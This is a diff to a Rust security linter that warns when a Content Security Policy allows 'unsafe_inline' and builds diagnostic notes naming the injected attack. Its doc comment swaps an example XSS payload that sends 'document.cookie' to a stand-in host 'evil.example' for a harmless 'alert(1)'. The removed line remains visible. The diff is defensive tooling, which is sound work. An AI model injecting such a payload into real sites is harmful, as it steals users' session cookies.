@@ -1,3 +1,4 @@
+use crate::csp::attack::{EVENT_HANDLER, INLINE_SCRIPT};
 use crate::csp::{Directive, Purpose};
 use crate::diagnostic::Diagnostic;
 use crate::lint::report::{Report, lint};
@@ -20,7 +21,7 @@ lint! {
     /// A comment that is shown without escaping:
     ///
     /// ```html
-    /// Nice shop! <script>fetch("https://evil.example/?" + document.cookie)</script>
+    /// Nice shop! <script>alert(1)</script>
     /// ```
     ///
     /// # Example
@@ -65,13 +66,19 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     for (span, directive) in weaknesses {
         let message =
             format!("`unsafe_inline` in `{}` allows every inline script, including an injected one", directive.key());
-        let help = match directive {
-            Directive::ScriptSrcAttr => "use `addEventListener` in a script, and write `script_src_attr: none`",
-            _ => {
-                "use `nonce`, and write it on each script element: `<script nonce=\"…\">`; or list the scripts' hashes"
+        let (attack, help) = match directive {
+            Directive::ScriptSrcAttr => {
+                (EVENT_HANDLER, "use `addEventListener` in a script, and write `script_src_attr: none`")
             }
+            _ => (
+                INLINE_SCRIPT,
+                "use `nonce`, and write it on each script element: `<script nonce=\"…\">`; or list the scripts' hashes",
+            ),
         };
-        let note = "cross-site scripting is inline script, so this policy does not stop it";
+        let note = format!(
+            "an injected `{}` runs: cross-site scripting is inline script, so this policy does not stop it",
+            attack.text
+        );
         report.push(Diagnostic::finding(span, message).help(help).note(note));
     }
 }
